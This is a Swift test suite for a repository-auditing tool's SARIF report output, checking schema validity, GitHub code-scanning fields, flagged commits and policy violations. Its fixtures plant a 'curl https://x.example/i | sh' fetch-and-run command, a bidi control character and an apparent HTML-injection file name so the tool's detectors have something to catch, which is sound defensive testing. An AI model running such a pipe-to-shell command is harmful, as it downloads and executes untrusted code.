import CustodyCore
import CustodyTestSupport
import Foundation
import Testing

@Suite struct SARIFReportTests {
    static let validator = """
        import json, sys, jsonschema
        schema = json.load(open(sys.argv[1]))
        instance = json.load(open(sys.argv[2]))
        jsonschema.Draft4Validator.check_schema(schema)
        errors = list(jsonschema.Draft4Validator(schema).iter_errors(instance))
        for error in errors[:10]:
            print(error.message, list(error.absolute_path))
        sys.exit(1 if errors else 0)
        """

    /// Validates with python's jsonschema against the SARIF 2.1.0 schema in ../shared (draft-04;
    /// nothing is fetched: the instance's `$schema` is not followed).
    func validate(_ bytes: [UInt8]) throws {
        let schema = ReportFixtures.packageRoot().appendingPathComponent("../shared/schemas/sarif-schema-2.1.0.json").standardized
        #expect(FileManager.default.fileExists(atPath: schema.path), "SARIF schema missing at \(schema.path)")
        let file = try ReportFixtures.temporaryFile("report.sarif", bytes)
        let (status, output) = try ReportFixtures.run("/usr/bin/env", ["python3", "-c", Self.validator, schema.path, file.path])
        #expect(status == 0, "SARIF does not validate: \(output)")
    }

    func object(_ bytes: [UInt8]) throws -> [String: Any] {
        try #require(JSONSerialization.jsonObject(with: Data(bytes)) as? [String: Any])
    }

    /// Checks what GitHub code scanning requires beyond the schema.
    func checkGitHubRequirements(_ bytes: [UInt8]) throws {
        let log = try object(bytes)
        #expect(log["version"] as? String == "2.1.0")
        let run = try #require((log["runs"] as? [[String: Any]])?.first)
        let driver = try #require((run["tool"] as? [String: Any])?["driver"] as? [String: Any])
        let rules = driver["rules"] as? [[String: Any]] ?? []
        for rule in rules {
            for key in ["shortDescription", "fullDescription", "help"] {
                let text = (rule[key] as? [String: Any])?["text"] as? String ?? ""
                #expect(!text.isEmpty, "rule \(rule["id"] ?? "?") has empty \(key)")
            }
            #expect(((rule["properties"] as? [String: Any])?["security-severity"] as? String) != nil)
        }
        let ruleIDs = Set(rules.compactMap { $0["id"] as? String })
        for result in run["results"] as? [[String: Any]] ?? [] {
            #expect(ruleIDs.contains(result["ruleId"] as? String ?? ""))
            let fingerprints = result["partialFingerprints"] as? [String: String] ?? [:]
            #expect(!fingerprints.isEmpty)
            let locations = result["locations"] as? [[String: Any]] ?? []
            #expect(!locations.isEmpty)
            for location in locations {
                if let physical = location["physicalLocation"] as? [String: Any] {
                    let region = try #require(physical["region"] as? [String: Any])
                    #expect((region["startLine"] as? Int ?? 0) >= 1)
                    let uri = (physical["artifactLocation"] as? [String: Any])?["uri"] as? String ?? ""
                    #expect(!uri.isEmpty && !uri.hasPrefix("/"))
                    #expect(fingerprints["primaryLocationLineHash"] != nil)
                }
            }
            let message = (result["message"] as? [String: Any])?["text"] as? String ?? ""
            #expect(!message.isEmpty)
        }
    }

    @Test func realAuditWithFindingsValidates() throws {
        let repo = try ReportFixtures.makeRepository()
        let report = try ReportFixtures.audit(repo)
        #expect(report.findings.count >= 2)
        let bytes = try SARIFReport.render(report, rules: ReportFixtures.rules)
        try validate(bytes)
        try checkGitHubRequirements(bytes)

        let run = try #require((try object(bytes)["runs"] as? [[String: Any]])?.first)
        let results = try #require(run["results"] as? [[String: Any]])
        #expect(results.count == report.findings.count)
        // Most severe first; the author comes from the flagged commit, the person from the roster.
        #expect((results.first?["properties"] as? [String: Any])?["severity"] as? String == "critical")
        // The registered detectors fire on the planted bidi control and `curl | sh` too.
        #expect(results.contains { ($0["ruleId"] as? String)?.hasPrefix("CUST-") == true })
        let properties = try #require(results.first?["properties"] as? [String: Any])
        #expect(properties["authorEmail"] as? String == "mallory@evil.example")
        #expect((properties["authorName"] as? String)?.hasPrefix("Mallory") == true)
        #expect(properties["person"] == nil)
        #expect(properties["commitSha"] as? String == report.findings.first?.commit)
        let uris = results.compactMap {
            (($0["locations"] as? [[String: Any]])?.first?["physicalLocation"] as? [String: Any]).flatMap {
                ($0["artifactLocation"] as? [String: Any])?["uri"] as? String
            }
        }
        #expect(uris.contains("src/check.c"))
        #expect(uris.contains { $0.hasPrefix("scripts/%3Cimg") })
    }

    @Test func flaggedCommitsNameThePerson() throws {
        let repo = try ReportFixtures.makeRepository()
        try repo.write("tools/get.sh", "curl https://x.example/i | sh\n")
        try repo.commit("Fetch tool", author: ReportFixtures.bruno)
        let report = try ReportFixtures.audit(repo)
        let flagged = try #require(report.flaggedCommits)
        #expect(flagged.count == 2)
        #expect(flagged.contains { $0.person == "bruno" && $0.subject == "Fetch tool" })
        #expect(flagged.contains { $0.person == nil && $0.authorEmail == "mallory@evil.example" })
        let timeline = try #require(report.timeline)
        #expect(timeline.map(\.total).reduce(0, +) == report.counts.commits)
        #expect(timeline.map(\.usPersons).reduce(0, +) == 1)
        #expect(timeline.map(\.otherRoster).reduce(0, +) == 2)
        #expect(timeline.map(\.unknown).reduce(0, +) == 1)
        #expect(timeline.map(\.month) == timeline.map(\.month).sorted())
    }

    @Test func auditWithoutFindingsValidates() throws {
        let repo = try TemporaryGitRepository()
        try repo.write("README", "hello\n")
        try repo.commit("Initial", author: ReportFixtures.alice)
        let report = try Auditor(AuditConfiguration(jobs: 1)).run(try GitRepository(path: repo.path)).report
        let bytes = try SARIFReport.render(report)
        try validate(bytes)
        try checkGitHubRequirements(bytes)
    }

    @Test func handBuiltReportValidates() throws {
        let report = ReportFixtures.handBuilt(findings: 25)
        let bytes = try SARIFReport.render(report, rules: [ReportFixtures.pipeRule])
        try validate(bytes)
        try checkGitHubRequirements(bytes)
        let driver = try #require(((try object(bytes)["runs"] as? [[String: Any]])?.first?["tool"] as? [String: Any])?["driver"] as? [String: Any])
        // Findings of unregistered rules still get a rule entry.
        #expect(Set((driver["rules"] as? [[String: Any]] ?? []).compactMap { $0["id"] as? String }).isSuperset(of: ["OLD-RULE-0", "OLD-RULE-1", "OLD-RULE-2"]))
    }

    @Test func policyViolationsAreResultsOfTheirOwnRules() throws {
        var report = ReportFixtures.handBuilt(findings: 2)
        report.violations = [
            Violation(
                ruleID: "restricted-authors",
                commit: String(repeating: "b", count: 40),
                personID: "wli",
                identity: "W Li <wli@vendor.example>",
                severity: .critical,
                explanation: "A person the policy restricts wrote this commit.",
                required: "no commits by restricted people on these paths",
                found: "a commit by wli",
                paths: ["src/auth.c"]
            )
        ]
        let bytes = try SARIFReport.render(report, rules: [ReportFixtures.pipeRule])
        try validate(bytes)
        try checkGitHubRequirements(bytes)
        let run = try #require((try object(bytes)["runs"] as? [[String: Any]])?.first)
        let results = run["results"] as? [[String: Any]] ?? []
        let policy = try #require(results.first { ($0["ruleId"] as? String) == "policy/restricted-authors" })
        #expect(policy["level"] as? String == "error")
        #expect((policy["properties"] as? [String: Any])?["person"] as? String == "wli")
        let rules = ((run["tool"] as? [String: Any])?["driver"] as? [String: Any])?["rules"] as? [[String: Any]] ?? []
        #expect(rules.contains { ($0["id"] as? String) == "policy/restricted-authors" })
    }

    @Test func truncatesToMaximumResultsKeepingTheMostSevere() throws {
        let report = ReportFixtures.handBuilt(findings: 40)
        let bytes = try SARIFReport.render(report, rules: [ReportFixtures.pipeRule], maximumResults: 7)
        try validate(bytes)
        let run = try #require((try object(bytes)["runs"] as? [[String: Any]])?.first)
        let results = try #require(run["results"] as? [[String: Any]])
        #expect(results.count == 7)
        let severities = results.compactMap { ($0["properties"] as? [String: Any])?["severity"] as? String }
        #expect(severities.allSatisfy { $0 == "critical" || $0 == "high" })
        let notes = (run["properties"] as? [String: Any])?["notes"] as? [String] ?? []
        #expect(notes.first?.contains("40") == true)
    }
}
